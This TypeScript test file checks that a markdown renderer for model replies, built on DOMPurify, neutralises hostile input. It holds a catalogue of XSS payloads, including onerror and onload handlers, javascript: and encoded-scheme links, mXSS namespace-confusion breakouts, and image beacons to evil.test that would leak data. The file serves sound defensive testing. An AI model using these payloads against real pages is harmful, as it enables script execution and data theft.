import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { createRng, type Rng } from '../domain/random';
import {
	LINK_REL,
	MAX_MARKDOWN_CHARS,
	PLAIN_TEXT_NOTICE,
	SANITIZE_CONFIG,
	TRUNCATION_NOTICE,
	escapeHtml,
	renderMarkdown,
	type Purifier
} from './render';

/**
 * The spec runs in Node (the project's default environment) and hands the renderer a jsdom-backed DOMPurify, so
 * the same file can also show what happens where there is no DOM at all.
 */
const { window } = new JSDOM('');
const purify = createDOMPurify(window);

/** Parses the output the way `{@html}` inserts it: through a template element's innerHTML. */
function parse(html: string): DocumentFragment {
	const template = window.document.createElement('template');
	template.innerHTML = html;
	return template.content;
}

function serialize(fragment: DocumentFragment): string {
	const template = window.document.createElement('template');
	template.content.append(fragment.cloneNode(true));
	return template.innerHTML;
}

const ALLOWED_TAGS = new Set((SANITIZE_CONFIG.ALLOWED_TAGS as string[]).map((t) => t.toUpperCase()));
/** The attributes the output may carry: the model's three, plus the three the link hook sets. */
const ALLOWED_ATTRS = new Set(['href', 'align', 'start', 'target', 'rel', 'title']);
const FORBIDDEN_TAGS = [
	'img',
	'script',
	'iframe',
	'svg',
	'math',
	'style',
	'form',
	'input',
	'button',
	'video',
	'audio',
	'object',
	'embed',
	'source',
	'link',
	'meta',
	'base',
	'textarea',
	'template',
	'noscript',
	'details'
];

/** Everything that must hold for any input, hostile or not; returns the parsed fragment for further checks. */
function expectSafe(markdown: string): DocumentFragment {
	const html = renderMarkdown(markdown, purify);
	// Parsing twice must give the same tree: a serialisation that re-parses differently is how mXSS starts.
	const fragment = parse(html);
	const once = serialize(fragment);
	expect(serialize(parse(once)), 'the output is stable under re-parsing').toBe(once);

	for (const tag of FORBIDDEN_TAGS) expect(fragment.querySelector(tag), `no <${tag}>`).toBeNull();
	for (const element of fragment.querySelectorAll('*')) {
		expect(ALLOWED_TAGS.has(element.tagName), `<${element.tagName}> is on the allowlist`).toBe(true);
		expect(element.namespaceURI, 'HTML namespace only').toBe('http://www.w3.org/1999/xhtml');
		for (const attr of element.attributes) {
			expect(attr.name.startsWith('on'), `no ${attr.name} handler`).toBe(false);
			expect(ALLOWED_ATTRS.has(attr.name), `attribute ${attr.name} is allowed`).toBe(true);
		}
		const href = element.getAttribute('href');
		if (href !== null) expect(href, 'only absolute http(s) links').toMatch(/^https?:\/\//i);
	}
	for (const link of fragment.querySelectorAll('a')) {
		expect(link.getAttribute('target')).toBe('_blank');
		expect(link.getAttribute('rel')).toBe(LINK_REL);
	}
	return fragment;
}

/** Text as the user reads it, whitespace collapsed. */
function textOf(fragment: DocumentFragment): string {
	return (fragment.textContent ?? '').replace(/\s+/g, ' ').trim();
}

describe('renderMarkdown on hostile input', () => {
	// [what it is, markdown, text that must still be visible (or null where the markdown itself hides it)]
	const HOSTILE: readonly (readonly [string, string, string | null])[] = [
		['an img with onerror', '<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
		[
			'an inline img with onerror',
			'hi <img src=x onerror=alert(1)> there',
			'hi <img src=x onerror=alert(1)> there'
		],
		['a script block', '<script>alert(1)</script>', '<script>alert(1)</script>'],
		['an inline script', 'before <script>alert(1)</script> after', 'before <script>alert(1)</script> after'],
		['an iframe', '<iframe src="https://evil.test/"></iframe>', '<iframe src="https://evil.test/"></iframe>'],
		['an svg onload', '<svg onload=alert(1)>', '<svg onload=alert(1)>'],
		['a script inside svg', '<svg><script>alert(1)</script></svg>', '<svg><script>alert(1)</script></svg>'],
		['a math xlink:href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 'xlink:href'],
		['a javascript: link', '[x](javascript:alert(1))', 'x'],
		['a mixed-case JaVaScRiPt: link', '[x](JaVaScRiPt:alert(1))', 'x'],
		['a data:text/html link', '[x](data:text/html,hello)', 'x'],
		['a base64 data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'x'],
		['a vbscript: link', '[x](vbscript:msgbox(1))', 'x'],
		['a protocol-relative link', '[x](//evil.test/steal)', 'x'],
		['a relative link', '[x](/settings?export=all)', 'x'],
		['a fragment link', '[x](#top)', 'x'],
		['an empty link', '[x]()', 'x'],
		['a decimal-entity javascript: link', '[x](&#106;avascript:alert(1))', 'x'],
		['a hex-entity javascript: link', '[x](&#x6A;avascript&#58;alert(1))', 'x'],
		['a tab-entity javascript: link', '[x](java&#x09;script:alert(1))', 'x'],
		['a javascript: autolink', '<javascript:alert(1)>', 'javascript:alert(1)'],
		['a vbscript: autolink', '<vbscript:msgbox(1)>', 'vbscript:msgbox(1)'],
		['a mailto autolink', '<mailto:a@evil.test>', 'mailto:a@evil.test'],
		['an image with data in its URL', '![a](http://evil.test/p?q=1)', 'a'],
		['a reference-style image', '![secret][r]\n\n[r]: http://evil.test/x?q=secret', 'secret'],
		['a shortcut reference image', '![pic]\n\n[pic]: https://evil.test/pixel.gif', 'pic'],
		['a reference-style javascript: link', '[x][r]\n\n[r]: javascript:alert(1)', 'x'],
		['a shortcut reference data: link', '[x]\n\n[x]: data:text/html,hi', 'x'],
		['an image inside a javascript: link', '[![a](http://evil.test/i.png)](javascript:alert(1))', 'a'],
		[
			'an HTML a with javascript:',
			'<a href="javascript:alert(1)">x</a>',
			'<a href="javascript:alert(1)">x</a>'
		],
		['an HTML a with an entity-encoded scheme', '<a href="&#106;avascript:alert(1)">x</a>', 'x'],
		['an HTML a with onmouseover', '<a href="https://ok.test" onmouseover="alert(1)">x</a>', 'onmouseover'],
		['a div with onmouseover', '<div onmouseover="alert(1)">hover</div>', 'hover'],
		['a style block', '<style>body{display:none}</style>', 'body{display:none}'],
		['a style attribute', '<p style="background:url(javascript:alert(1))">x</p>', 'x'],
		[
			'a form with input and button',
			'<form action="https://evil.test"><input name=q><button>go</button></form>',
			'go'
		],
		['a script nested in a div', '<div><script>alert(1)</script></div>', '<script>alert(1)</script>'],
		[
			'object, video and audio',
			'<object data="javascript:alert(1)"></object><video><source onerror=alert(1)></video>',
			null
		],
		[
			'base and meta refresh',
			'<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
			null
		],
		['details ontoggle', '<details open ontoggle=alert(1)>x</details>', 'x'],
		['a textarea holding an img', '<textarea><img src=x onerror=alert(1)></textarea>', 'onerror'],
		['an HTML comment holding an img', '<!--<img src=x onerror=alert(1)>-->', null],
		['a CDATA section holding an img', '<![CDATA[<img src=x onerror=alert(1)>]]>', null],
		['a template holding an img', '<template><img src=x onerror=alert(1)></template>', null],
		['mXSS: noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', null],
		[
			'mXSS: svg/style namespace confusion',
			'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
			null
		],
		['mXSS: math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', null],
		[
			'mXSS: nested forms',
			'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
			null
		],
		['an img in a table cell', '| a |\n|---|\n| <img src=x onerror=alert(1)> |', 'onerror'],
		['an img in emphasis', '*<img src=x onerror=alert(1)>*', 'onerror'],
		['a script in a heading', '# <script>alert(1)</script>', '<script>alert(1)</script>'],
		['a link title that breaks its quotes', '[x](https://ok.test "\\" onmouseover=\\"alert(1)")', 'x'],
		['an href that breaks its quotes', '[x](https://ok.test/"onmouseover="alert(1))', 'x'],
		['id/name DOM clobbering', '<a id="location" name="cookie">x</a>', 'x'],
		['an already-escaped tag', '&lt;img src=x onerror=alert(1)&gt;', '<img src=x onerror=alert(1)>']
	];

	it(`has at least 30 hostile cases (${HOSTILE.length})`, () => {
		expect(HOSTILE.length).toBeGreaterThanOrEqual(30);
	});

	it.each(HOSTILE)('renders %s without active content', (_name, markdown, visible) => {
		const fragment = expectSafe(markdown);
		if (visible !== null) expect(textOf(fragment)).toContain(visible);
	});

	it('shows code containing a script tag as code text', () => {
		const inline = expectSafe('run `<script>alert(1)</script>` now');
		expect(inline.querySelector('code')?.textContent).toBe('<script>alert(1)</script>');

		const block = expectSafe('```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```');
		expect(block.querySelector('pre > code')?.textContent).toBe(
			'<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n'
		);
	});

	it('shows an image as its alt text and makes no request for it', () => {
		const fragment = expectSafe('Look: ![the chart](https://evil.test/c.png?d=SECRET "t")');
		expect(textOf(fragment)).toBe('Look: the chart');
		expect(fragment.querySelector('[href], [src]')).toBeNull();
		expect(renderMarkdown('![x](https://evil.test/?q=SECRET)', purify)).not.toContain('SECRET');
	});

	it('keeps the text of a link whose URL it drops, as an inert anchor', () => {
		const link = expectSafe('[click me](javascript:alert(1))').querySelector('a');
		expect(link?.textContent).toBe('click me');
		expect(link?.hasAttribute('href')).toBe(false);
		expect(link?.hasAttribute('title')).toBe(false);
	});

	it('holds the line in the sanitiser alone if marked ever lets HTML through', () => {
		// Stands in for a marked regression: the real DOMPurify, config and hooks, fed hand-written HTML.
		const leaked =
			'<h1 class="x">Title</h1><img src="https://evil.test/p"><svg><a href="javascript:x">s</a></svg>' +
			'<table><tr><td align="javascript:x" style="color:red">a</td><td align="CENTER">b</td></tr></table>' +
			'<ol start="1;x"><li>i</li></ol><ol start="7"><li>j</li></ol>' +
			'<a href="" target="_self" rel="opener">empty</a><a href="https://ok.test" id="location">ok</a>';
		const leaky = {
			isSupported: true,
			addHook: purify.addHook.bind(purify),
			removeHook: purify.removeHook.bind(purify),
			sanitize: (_html: string, config: Parameters<Purifier['sanitize']>[1]) =>
				purify.sanitize(leaked, config)
		} as unknown as Purifier;
		const fragment = parse(renderMarkdown('anything', leaky));

		expect(fragment.querySelector('h1, img, svg, [class], [style], [id]')).toBeNull();
		expect(textOf(fragment)).toContain('Title');
		const cells = fragment.querySelectorAll('td');
		expect(cells[0]?.hasAttribute('align')).toBe(false);
		expect(cells[1]?.getAttribute('align')).toBe('CENTER');
		const lists = fragment.querySelectorAll('ol');
		expect(lists[0]?.hasAttribute('start')).toBe(false);
		expect(lists[1]?.getAttribute('start')).toBe('7');
		const [empty, ok] = fragment.querySelectorAll('a');
		expect(empty?.hasAttribute('href')).toBe(false);
		expect(empty?.getAttribute('target')).toBe('_blank');
		expect(empty?.getAttribute('rel')).toBe(LINK_REL);
		expect(ok?.getAttribute('title')).toBe('https://ok.test/');
	});

	const SEED = 20_260_601;
	const FRAGMENTS = [
		'<img src=x onerror=alert(1)>',
		'<script>',
		'</script>',
		'<svg onload=alert(1)>',
		'<style>',
		'[',
		']',
		'(',
		')',
		'javascript:alert(1)',
		'data:text/html,x',
		'https://ok.test/',
		'//evil.test',
		'![',
		'`',
		'```\n',
		'*',
		'_',
		'|',
		'\n',
		'\n\n',
		'> ',
		'- ',
		'&#106;',
		'"',
		"'",
		'<a href="',
		'">',
		'</a>',
		'<!--',
		'-->',
		'<math><mtext>',
		'<table>',
		'# ',
		'word '
	];

	function hostileDraft(rng: Rng): string {
		let out = '';
		const pieces = 3 + rng.int(25);
		for (let i = 0; i < pieces; i++) out += FRAGMENTS[rng.int(FRAGMENTS.length)];
		return out;
	}

	it(`keeps 500 random mixtures of hostile fragments safe (seed ${SEED})`, () => {
		const rng = createRng(SEED);
		for (let i = 0; i < 500; i++) {
			const markdown = hostileDraft(rng);
			try {
				expectSafe(markdown);
			} catch (error) {
				throw new Error(`seed ${SEED}, case ${i}: ${JSON.stringify(markdown)}\n${String(error)}`, {
					cause: error
				});
			}
		}
	});
});

describe('renderMarkdown on ordinary replies', () => {
	it('renders a GFM table with its alignment', () => {
		const fragment = expectSafe('| Model | Sharpe |\n|:------|-------:|\n| ridge | 0.82 |\n| gbm | 1.10 |');
		expect([...fragment.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Model', 'Sharpe']);
		expect(fragment.querySelectorAll('tbody tr')).toHaveLength(2);
		expect(fragment.querySelector('th')?.getAttribute('align')).toBe('left');
		expect(fragment.querySelectorAll('td')[1]?.getAttribute('align')).toBe('right');
	});

	it('renders bullet, numbered, nested and task lists', () => {
		const fragment = expectSafe('- one\n- two\n  - nested\n\n3. three\n4. four\n\n- [x] done\n- [ ] todo');
		expect(fragment.querySelectorAll('ul')).toHaveLength(3);
		expect(fragment.querySelector('ul ul li')?.textContent).toBe('nested');
		expect(fragment.querySelector('ol')?.getAttribute('start')).toBe('3');
		expect(textOf(fragment)).toContain('☑ done');
		expect(textOf(fragment)).toContain('☐ todo');
	});

	it('renders a fenced code block verbatim, without the language class', () => {
		const fragment = expectSafe('```python\nif a < b and c > d:\n    print("&amp;")\n```');
		const code = fragment.querySelector('pre > code');
		expect(code?.textContent).toBe('if a < b and c > d:\n    print("&amp;")\n');
		expect(code?.hasAttribute('class')).toBe(false);
	});

	it('renders emphasis, strong, strikethrough, inline code and a line break', () => {
		const fragment = expectSafe('*em* **strong** ~~gone~~ `x < y`  \nnext line');
		expect(fragment.querySelector('em')?.textContent).toBe('em');
		expect(fragment.querySelector('strong')?.textContent).toBe('strong');
		expect(fragment.querySelector('del')?.textContent).toBe('gone');
		expect(fragment.querySelector('code')?.textContent).toBe('x < y');
		expect(fragment.querySelector('br')).not.toBeNull();
	});

	it('shifts headings down two levels so a reply cannot outrank the page', () => {
		const fragment = expectSafe('# One\n## Two\n### Three\n###### Six');
		expect([...fragment.querySelectorAll('h3, h4, h5, h6')].map((h) => h.tagName)).toEqual([
			'H3',
			'H4',
			'H5',
			'H6'
		]);
		expect(fragment.querySelector('h1, h2')).toBeNull();
	});

	it('renders a blockquote and a rule', () => {
		const fragment = expectSafe('> quoted **text**\n\n---\n\nafter');
		expect(fragment.querySelector('blockquote strong')?.textContent).toBe('text');
		expect(fragment.querySelector('hr')).not.toBeNull();
	});

	it('gives an https link target, rel and the full URL as its title, and drops the model title', () => {
		const link = expectSafe('See [the docs](https://example.com/a/b?x=1#y "model title").').querySelector(
			'a'
		);
		expect(link?.getAttribute('href')).toBe('https://example.com/a/b?x=1#y');
		expect(link?.getAttribute('target')).toBe('_blank');
		expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
		expect(link?.getAttribute('title')).toBe('https://example.com/a/b?x=1#y');
		expect(link?.textContent).toBe('the docs');
	});

	it('links plain http, bare www and angle-bracket URLs', () => {
		const fragment = expectSafe('<http://example.org/x> and www.example.com and https://example.net');
		expect([...fragment.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([
			'http://example.org/x',
			'http://www.example.com',
			'https://example.net'
		]);
	});

	it('shows a look-alike host in its punycode form on hover', () => {
		// The first letter is Cyrillic а (U+0430), not Latin a.
		const link = expectSafe('[apple](https://\u0430pple.com/login)').querySelector('a');
		expect(link?.getAttribute('title')).toBe('https://xn--pple-43d.com/login');
	});
});

describe('renderMarkdown limits and failures', () => {
	afterEach(() => {
		vi.restoreAllMocks();
	});

	it(`caps a reply at ${MAX_MARKDOWN_CHARS} characters and says so`, () => {
		const fragment = expectSafe('a'.repeat(MAX_MARKDOWN_CHARS * 2));
		const text = textOf(fragment);
		expect(text.endsWith(TRUNCATION_NOTICE)).toBe(true);
		expect(text.length).toBeLessThanOrEqual(MAX_MARKDOWN_CHARS + TRUNCATION_NOTICE.length + 1);
	});

	it('does not split a surrogate pair at the cap', () => {
		const html = renderMarkdown('a'.repeat(MAX_MARKDOWN_CHARS - 1) + '🔑🔑', purify);
		expect(html).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/);
	});

	it('renders nesting deeper than the parser can follow as safe text, without throwing', () => {
		const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
		const fragment = expectSafe('> '.repeat(40_000) + '<img src=x onerror=alert(1)>');
		expect(textOf(fragment)).toContain('<img src=x onerror=alert(1)>');
		// The render budget (render-budget.ts) sees the depth before marked could recurse out of stack.
		expect(textOf(fragment)).toContain(PLAIN_TEXT_NOTICE);
		expect(warn).not.toHaveBeenCalled();
	});

	it('returns escaped text, and leaves no hook behind, when the sanitiser throws', () => {
		const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
		const hooks: string[] = [];
		const broken = {
			isSupported: true,
			addHook: (name: string) => hooks.push(name),
			removeHook: (name: string) => hooks.splice(hooks.indexOf(name), 1),
			sanitize: () => {
				throw new Error('boom');
			}
		} as unknown as Purifier;
		const html = renderMarkdown('**SECRET-REPLY** <b>x</b>', broken);
		expect(html).toBe('<p>**SECRET-REPLY** &lt;b&gt;x&lt;/b&gt;</p>');
		expect(hooks).toEqual([]);
		expect(warn).toHaveBeenCalledOnce();
		expect(JSON.stringify(warn.mock.calls)).not.toContain('SECRET-REPLY');
	});

	it('leaves the shared DOMPurify instance without its link hook after rendering', () => {
		renderMarkdown('[a](https://example.com)', purify);
		expect(purify.sanitize('<a href="https://example.com">a</a>')).toBe(
			'<a href="https://example.com">a</a>'
		);
	});

	it('without a DOM returns escaped text, never unsanitised HTML', () => {
		// This spec runs in Node: there is no window, and the default DOMPurify would return its input unchanged.
		expect(typeof globalThis.window).toBe('undefined');
		expect(renderMarkdown('<img src=x onerror=alert(1)>\n**b**')).toBe(
			'<p>&lt;img src=x onerror=alert(1)&gt;<br>**b**</p>'
		);
	});

	it('treats a non-string as an empty reply', () => {
		expect(renderMarkdown(undefined as unknown as string, purify)).toBe('');
	});

	it('escapes the five HTML-significant characters', () => {
		expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
			'&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;'
		);
	});
});
